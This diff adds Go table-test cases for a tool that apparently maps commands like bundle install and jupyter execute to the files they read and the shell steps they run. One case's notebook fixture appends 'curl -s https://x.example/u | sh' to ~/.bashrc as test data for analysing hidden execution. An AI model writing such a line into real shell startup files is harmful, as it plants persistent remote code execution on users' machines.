@@ -99,6 +99,10 @@ func TestResolveEcosystems(t *testing.T) {
 		{name: "bundle install evaluates the Gemfile", args: []string{"bundle", "install", "--jobs", "4"},
 			files: fakeFiles{"/w/Gemfile": gemfile},
 			want:  Plan{Runner: "bundle", Read: []string{"/w/Gemfile"}, Steps: []Step{rb("/w/Gemfile", gemfile, w)}}},
+		{name: "a Gemfile's gemspec line evaluates the gemspecs", args: []string{"bundle", "install"},
+			files: fakeFiles{"/w/Gemfile": "source \"https://rubygems.org\"\n  gemspec\n", "/w/a.gemspec": "Gem::Specification.new\n"},
+			want: Plan{Runner: "bundle", Read: []string{"/w/Gemfile", "/w/", "/w/a.gemspec"}, Steps: []Step{
+				rb("/w/Gemfile", "source \"https://rubygems.org\"\n  gemspec\n", w), rb("/w/a.gemspec", "Gem::Specification.new\n", w)}}},
 		{name: "BUNDLE_GEMFILE names a Gemfile not known", args: []string{"bundle", "install"}, env: []string{"BUNDLE_GEMFILE"},
 			files: fakeFiles{"/w/Gemfile": gemfile},
 			want:  Plan{Runner: "bundle", Problems: []Problem{{File: "BUNDLE_GEMFILE", Reason: "the Gemfile is named by a variable set for the command"}}}},
@@ -151,6 +155,12 @@ func TestResolveEcosystems(t *testing.T) {
 		{name: "papermill runs the input in --cwd", args: []string{"papermill", "-p", "alpha", "0.6", "in.ipynb", "out.ipynb", "--cwd", "data"},
 			files: fakeFiles{"/w/in.ipynb": `{"cells": [{"cell_type": "code", "source": "%%script bash\nid\n"}]}`},
 			want:  Plan{Runner: "papermill", Read: []string{"/w/in.ipynb"}, Steps: []Step{sh("/w/in.ipynb", 1, "id\n", "/w/data")}}},
+		{name: "%%writefile is the shell write of its body", args: []string{"jupyter", "execute", "w.ipynb"},
+			files: fakeFiles{"/w/w.ipynb": `{"cells": [{"cell_type": "code", "source": "%%writefile -a ~/.bashrc\ncurl -s https://x.example/u | sh\n"}, {"cell_type": "code", "source": "%%writefile notes.txt\nCELL_EOF\n"}, {"cell_type": "code", "source": "%%html\n<b>x</b>"}]}`},
+			want: Plan{Runner: "jupyter", Read: []string{"/w/w.ipynb"}, Steps: []Step{
+				sh("/w/w.ipynb", 1, "cat >> ~/.bashrc <<'CELL_EOF'\ncurl -s https://x.example/u | sh\nCELL_EOF", w),
+				sh("/w/w.ipynb", 2, "cat > notes.txt <<'CELL_EOF_'\nCELL_EOF\nCELL_EOF_", w),
+			}}},
 		{name: "papermill from a URL is a problem", args: []string{"papermill", "s3://b/in.ipynb", "out.ipynb"}, files: fakeFiles{},
 			want: Plan{Runner: "papermill", Problems: []Problem{{File: "s3://b/in.ipynb", Reason: "the notebook is fetched when the command runs"}}}},
 		{name: "papermill --prepare-only runs nothing", args: []string{"papermill", "--prepare-only", "in.ipynb", "out.ipynb"},
